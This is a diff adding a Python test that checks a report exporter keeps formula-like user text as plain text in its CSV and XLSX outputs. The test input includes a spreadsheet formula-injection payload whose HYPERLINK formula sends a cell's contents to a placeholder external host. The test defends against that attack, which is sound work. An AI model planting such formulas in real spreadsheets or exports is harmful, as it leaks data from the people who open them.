@@ -192,3 +192,19 @@ def test_csv_and_xlsx_carry_the_same_figures(world: World) -> None:
     assert sheet.cell(row=sheet.max_row, column=7).number_format == "0.0%"
     english = report_tables("weekly", report.content, None, "en")
     assert english[1].headers[:3] == ["Department", "Received", "Replied"]
+
+
+def test_typed_text_stays_text_in_the_exports_m3() -> None:
+    """Text a customer or a member of staff typed (a description, a note) can start like a formula; the
+    CSV and the XLSX keep it as text, so opening the report never runs it."""
+    from engine.report_export import Table
+
+    typed = '=HYPERLINK("http://example.invalid/?d="&A1,"Details")'
+    table = Table("notable", "Notable cases", ["case", "summary", "note", "count"],
+                  rows=[["TS-1", typed, "+1 by phone", -3], ["TS-2", "-", "@all", 2]])
+    rows = list(csv.reader(io.StringIO(to_csv([table]).decode("utf-8-sig"))))
+    assert rows[2] == ["TS-1", "'" + typed, "'+1 by phone", "-3"]
+    assert rows[3] == ["TS-2", "'-", "'@all", "2"]
+    sheet = load_workbook(io.BytesIO(to_xlsx([table]))).active
+    assert (sheet["B2"].data_type, sheet["B2"].value) == ("s", typed)
+    assert (sheet["D2"].data_type, sheet["D2"].value) == ("n", -3)
